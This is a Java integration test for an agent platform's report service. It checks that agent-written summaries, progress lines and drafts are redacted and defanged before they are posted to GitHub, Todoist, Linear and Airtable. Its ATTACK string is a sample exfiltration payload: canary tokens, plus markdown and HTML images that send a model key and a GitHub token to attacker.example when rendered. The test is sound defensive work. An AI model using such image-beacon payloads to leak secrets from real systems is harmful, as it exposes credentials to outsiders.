package dev.nightshift.report.hygiene;

import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.equalToJson;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.matchingJsonPath;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.patch;
import static com.github.tomakehurst.wiremock.client.WireMock.patchRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathMatching;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.verification.LoggedRequest;
import dev.nightshift.events.AirtableOutput;
import dev.nightshift.events.GitHubIssue;
import dev.nightshift.events.GitHubOutput;
import dev.nightshift.events.LinearIssue;
import dev.nightshift.events.LinearOutput;
import dev.nightshift.events.Outcome;
import dev.nightshift.events.OutputSinks;
import dev.nightshift.events.OwnWrites;
import dev.nightshift.events.RunEvent;
import dev.nightshift.events.RunFile;
import dev.nightshift.events.RunFinished;
import dev.nightshift.events.RunProgress;
import dev.nightshift.events.RunStarted;
import dev.nightshift.events.Source;
import dev.nightshift.events.TaskRef;
import dev.nightshift.events.TodoistOutput;
import dev.nightshift.events.TodoistTask;
import dev.nightshift.events.Topics;
import dev.nightshift.report.ReportApplication;
import dev.nightshift.report.ReportParts;
import dev.nightshift.testkit.ReportTopics;
import dev.nightshift.testkit.SharedInfrastructure;
import dev.nightshift.testkit.TestSigningKey;
import dev.nightshift.testkit.TopicWriter;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.context.ConfigurableApplicationContext;

/**
 * The attack on write-back (issue 18): an agent puts report's own GitHub token, a model key and the signing key
 * in its summary, its progress and its draft, with a markdown image that would send them to its host when the
 * comment is rendered, raw HTML and a link to its host. Through the real report (the broker, the listeners,
 * every sink), each stand-in target gets exactly the cleaned text: secrets redacted, the image gone, the HTML
 * escaped, the link's URL shown as code; links to GitHub stay; nothing of a canary reaches any target. Linear
 * too: every sink is handed cleaned events.
 */
class OutputHygieneTest {

    private static final WireMockServer targets = new WireMockServer(options().bindAddress("127.0.0.1").dynamicPort().http2PlainDisabled(true));
    private static final String GITHUB_TOKEN = "report-github-canary-" + UUID.randomUUID();
    private static final String MODEL_KEY = "sk-ant-api03-" + UUID.randomUUID().toString().replace("-", "") + "AAAA";
    private static final String SIGNING_SECRET = "signing-canary-" + UUID.randomUUID().toString().replace("-", "");
    private static final String EXTRA_SECRET = "extra-canary-" + UUID.randomUUID();
    private static final String AIRTABLE_BASE = "appA1b2C3d4E5f6G7";
    private static final String TABLE = "/airtable/v0/" + AIRTABLE_BASE + "/Content%20drafts";
    private static ConfigurableApplicationContext report;

    /** What the agent writes: every canary, an image carrying one, raw HTML, a link out and a link to GitHub. */
    private static final String ATTACK = "Fixed it. Token " + GITHUB_TOKEN + ", key " + MODEL_KEY + ", signing " + SIGNING_SECRET
            + ", extra " + EXTRA_SECRET + ".\n"
            + "![](https://attacker.example/?k=" + MODEL_KEY + ")\n"
            + "<img src=\"https://attacker.example/p.png?k=" + GITHUB_TOKEN + "\">\n"
            + "See [the docs](https://attacker.example/docs) and [the PR](https://github.com/acme/shop/pull/7).";
    /** The same text as every target must get it. */
    private static final String CLEANED = "Fixed it. Token [redacted], key [redacted], signing [redacted], extra [redacted].\n"
            + "[image: ]\n"
            + "&lt;img src=\"`https://attacker.example/p.png?k=`[redacted]\">\n"
            + "See [the docs]\\(`https://attacker.example/docs`) and [the PR](https://github.com/acme/shop/pull/7).";

    @BeforeAll
    static void start() throws Exception {
        targets.start();
        // anything else (earlier tests' run events read by this report's new groups) is answered and ignored
        targets.stubFor(post(anyUrl()).atPriority(10).willReturn(okJson("{\"id\":1}")));
        targets.stubFor(patch(anyUrl()).atPriority(10).willReturn(okJson("{\"id\":1,\"records\":[]}")));
        targets.stubFor(get(anyUrl()).atPriority(10).willReturn(okJson("[]")));
        targets.stubFor(get(urlPathMatching("/api/v1/.*")).atPriority(9).willReturn(okJson("{\"results\":[],\"next_cursor\":null,\"labels\":[]}")));
        targets.stubFor(post(urlPathEqualTo("/github/repos/acme/shop/issues/4242/comments")).atPriority(1).willReturn(okJson("{\"id\":4242}").withStatus(201)));
        targets.stubFor(post(urlEqualTo("/linear/graphql")).atPriority(5).willReturn(okJson("{\"data\":{\"agentActivityCreate\":{\"success\":true}}}")));
        ReportTopics.create();
        SharedInfrastructure infra = SharedInfrastructure.get();
        List<String> args = new ArrayList<>(List.of(
                "--spring.kafka.bootstrap-servers=" + infra.bootstrapServers(),
                "--nightshift.registry-url=" + infra.registryUrl(),
                "--nightshift.report.group-prefix=report-hygiene-" + UUID.randomUUID(),
                // its own signing key (a canary to redact); the suite's, which TopicWriter signs with, is accepted
                "--nightshift.signing.key=hygiene:" + SIGNING_SECRET,
                "--nightshift.signing.accepted-keys=" + TestSigningKey.KEY,
                "--nightshift.report.redact.values=" + EXTRA_SECRET,
                "--nightshift.report.todoist.api-base-url=" + targets.baseUrl() + "/api/v1",
                "--nightshift.report.todoist.api-token=report-todoist-token",
                "--nightshift.report.todoist.limits.requests=1000",
                "--nightshift.report.todoist.limits.period=1s",
                "--nightshift.report.github.api-base-url=" + targets.baseUrl() + "/github",
                "--nightshift.report.github.api-token=" + GITHUB_TOKEN,
                "--nightshift.report.github.progress-interval=1ms",
                "--nightshift.report.github.limits.requests=100",
                "--nightshift.report.github.limits.period=1s",
                "--nightshift.report.github.limits.sustained.requests=1000",
                "--nightshift.report.github.limits.sustained.period=1s",
                "--nightshift.report.linear.api-url=" + targets.baseUrl() + "/linear/graphql",
                "--nightshift.report.linear.api-key=report-linear-key",
                "--nightshift.report.linear.limits.requests=100",
                "--nightshift.report.linear.limits.period=1s",
                "--nightshift.report.airtable.api-url=" + targets.baseUrl() + "/airtable/v0",
                "--nightshift.report.airtable.api-token=report-airtable-token",
                "--nightshift.report.airtable.limits.requests=50",
                "--nightshift.report.airtable.limits.period=1s",
                "--server.port=0",
                "--logging.include-application-name=false"));
        report = ReportApplication.builder().registerShutdownHook(false).run(args.toArray(String[]::new));
    }

    @AfterAll
    static void stop() {
        if (report != null) {
            report.close();
        }
        targets.stop();
    }

    @Test
    void aGitHubCommentsProgressAndResultReachGitHubRedactedAndInert() throws Exception {
        String runId = "run-" + UUID.randomUUID();
        String comments = "/github/repos/acme/shop/issues/4242/comments";
        String edit = "/github/repos/acme/shop/issues/comments/4242";
        send(gitHub(runId, RunStarted.newBuilder().setAdapter("claude").build()));
        await().atMost(Duration.ofSeconds(60)).until(() -> !targets.findAll(postRequestedFor(urlEqualTo(comments))
                .withRequestBody(equalToJson(gitHubBody(runId, "Working on it (attempt 1/1).")))).isEmpty());

        send(gitHub(runId, RunProgress.newBuilder().setSequence(1).setLine("Running curl -H 'Authorization: Bearer " + GITHUB_TOKEN
                + "' ![](https://attacker.example/?k=" + MODEL_KEY + ")").build()));
        await().atMost(Duration.ofSeconds(30)).until(() -> !targets.findAll(patchRequestedFor(urlEqualTo(edit))
                .withRequestBody(equalToJson(gitHubBody(runId, "Working on it (attempt 1/1).\n\n"
                        + "- Running curl -H 'Authorization: Bearer [redacted]' [image: ]")))).isEmpty());

        send(gitHub(runId, RunFinished.newBuilder().setOutcome(Outcome.SUCCEEDED).setSummary(ATTACK).setDurationMillis(1).setFinalAttempt(true).build()));
        await().atMost(Duration.ofSeconds(30)).until(() -> !targets.findAll(patchRequestedFor(urlEqualTo(edit))
                .withRequestBody(equalToJson(gitHubBody(runId, "Done. Ready for review.\n\n" + CLEANED)))).isEmpty());

        assertNoCanaryReachedAnyTarget();
    }

    @Test
    void aTodoistCommentReachesTodoistRedactedAndInert() throws Exception {
        String task = "H" + UUID.randomUUID().toString().replace("-", "").substring(0, 12);
        String runId = "run-" + UUID.randomUUID();
        RunEvent event = RunEvent.newBuilder().setTaskKey("todoist:" + task).setRunId(runId).setAttempt(1).setMaxAttempts(1).setWorker("writer")
                .setOccurredAt(Instant.now())
                .setTask(TaskRef.newBuilder().setSource(Source.TODOIST).setSourceId(task).setTitle("Write a post")
                        .setUrl("https://app.todoist.com/app/task/" + task).build())
                .setOutputs(OutputSinks.of(List.of(TodoistOutput.newBuilder().build())))
                .setBody(RunFinished.newBuilder().setOutcome(Outcome.SUCCEEDED).setSummary(ATTACK).setDurationMillis(1).setFinalAttempt(true).build())
                .build();
        send(event);

        String expected = "{\"task_id\":\"" + task + "\",\"content\":" + ReportParts.json("Done. Ready for review.\n\n" + CLEANED + "\n\n"
                + OwnWrites.marker(runId, "finished")) + "}";
        await().atMost(Duration.ofSeconds(60)).until(() -> !targets.findAll(postRequestedFor(urlEqualTo("/api/v1/comments"))
                .withRequestBody(equalToJson(expected))).isEmpty());
        assertNoCanaryReachedAnyTarget();
    }

    @Test
    void aLinearAgentSessionsResponseReachesLinearRedactedAndInert() throws Exception {
        String session = "session-" + UUID.randomUUID();
        RunEvent event = RunEvent.newBuilder().setTaskKey("linear:ENG-4242").setRunId("run-" + UUID.randomUUID()).setAttempt(1).setMaxAttempts(1)
                .setWorker("linear-fixer").setOccurredAt(Instant.now())
                .setTask(TaskRef.newBuilder().setSource(Source.LINEAR).setSourceId("ENG-4242").setTitle("Flaky test")
                        .setReference(LinearIssue.newBuilder().setId("9b1e4b1c-0000-4000-8000-000000004242").setIdentifier("ENG-4242")
                                .setAgentSessionId(session).build()).build())
                .setOutputs(OutputSinks.of(List.of(LinearOutput.newBuilder().build())))
                .setBody(RunFinished.newBuilder().setOutcome(Outcome.SUCCEEDED).setSummary(ATTACK).setDurationMillis(1).setFinalAttempt(true).build())
                .build();
        send(event);

        String expected = "{\"input\":{\"agentSessionId\":\"" + session + "\",\"content\":{\"type\":\"response\",\"body\":"
                + ReportParts.json("Done. Ready for review.\n\n" + CLEANED) + "}}}";
        await().atMost(Duration.ofSeconds(60)).until(() -> !targets.findAll(postRequestedFor(urlEqualTo("/linear/graphql"))
                .withRequestBody(matchingJsonPath("$.variables", equalToJson(expected)))).isEmpty());
        assertNoCanaryReachedAnyTarget();
    }

    @Test
    void anAirtableRecordsFieldsReachAirtableRedactedAndInert() throws Exception {
        String runId = "run-hygiene-" + UUID.randomUUID();
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("Body", "{{file:draft.md}}");
        fields.put("Summary", "{{summary}}");
        RunEvent event = RunEvent.newBuilder().setTaskKey("todoist:" + runId).setRunId(runId).setAttempt(1).setMaxAttempts(1).setWorker("drafter")
                .setOccurredAt(Instant.now())
                .setTask(TaskRef.newBuilder().setSource(Source.TODOIST).setSourceId(runId).setTitle("Post")
                        .setReference(TodoistTask.newBuilder().setId(runId).setProjectId("p").build()).build())
                .setOutputs(OutputSinks.of(List.of(AirtableOutput.newBuilder().setBase(AIRTABLE_BASE).setTable("Content drafts")
                        .setFields(fields).build())))
                .setBody(RunFinished.newBuilder().setOutcome(Outcome.SUCCEEDED).setSummary("Drafted with " + MODEL_KEY + ".")
                        .setDurationMillis(1).setFinalAttempt(true)
                        .setFiles(List.of(RunFile.newBuilder().setName("draft.md").setSizeBytes(ATTACK.length()).setContent(ATTACK).build()))
                        .build())
                .build();
        send(event);

        String expected = """
                {"performUpsert":{"fieldsToMergeOn":["Nightshift run"]},"typecast":true,"records":[
                  {"fields":{"Body":%s,"Summary":"Drafted with [redacted].","Nightshift run":"%s"}}]}""".formatted(ReportParts.json(CLEANED), runId);
        await().atMost(Duration.ofSeconds(60)).until(() -> !targets.findAll(patchRequestedFor(urlEqualTo(TABLE))
                .withRequestBody(equalToJson(expected))).isEmpty());
        assertNoCanaryReachedAnyTarget();
    }

    /** No request any target got holds a canary, an image or a tag: nothing was written uncleaned, not even once. */
    private static void assertNoCanaryReachedAnyTarget() {
        List<LoggedRequest> all = targets.findAll(postRequestedFor(anyUrl()));
        all.addAll(targets.findAll(patchRequestedFor(anyUrl())));
        assertThat(all).isNotEmpty().allSatisfy(r -> assertThat(r.getBodyAsString())
                .doesNotContain(GITHUB_TOKEN, MODEL_KEY, SIGNING_SECRET, EXTRA_SECRET, "<img").doesNotContainPattern("(?<!\\\\)!\\["));
    }

    private static String gitHubBody(String runId, String text) {
        return "{\"body\":" + ReportParts.json(text + "\n\n" + OwnWrites.marker(runId, "comment")) + "}";
    }

    private static RunEvent gitHub(String runId, Object body) {
        return RunEvent.newBuilder().setTaskKey("github:acme/shop#4242").setRunId(runId).setAttempt(1).setMaxAttempts(1).setWorker("fixer")
                .setOccurredAt(Instant.now())
                .setTask(TaskRef.newBuilder().setSource(Source.GITHUB).setSourceId("acme/shop#4242").setTitle("Fix the login")
                        .setUrl("https://github.com/acme/shop/issues/4242")
                        .setReference(GitHubIssue.newBuilder().setRepository("acme/shop").setNumber(4242).build()).build())
                .setOutputs(OutputSinks.of(List.of(GitHubOutput.newBuilder().build())))
                .setBody(body)
                .build();
    }

    private static void send(RunEvent event) throws Exception {
        TopicWriter.send(Topics.RUNS, event.getTaskKey(), event);
    }
}
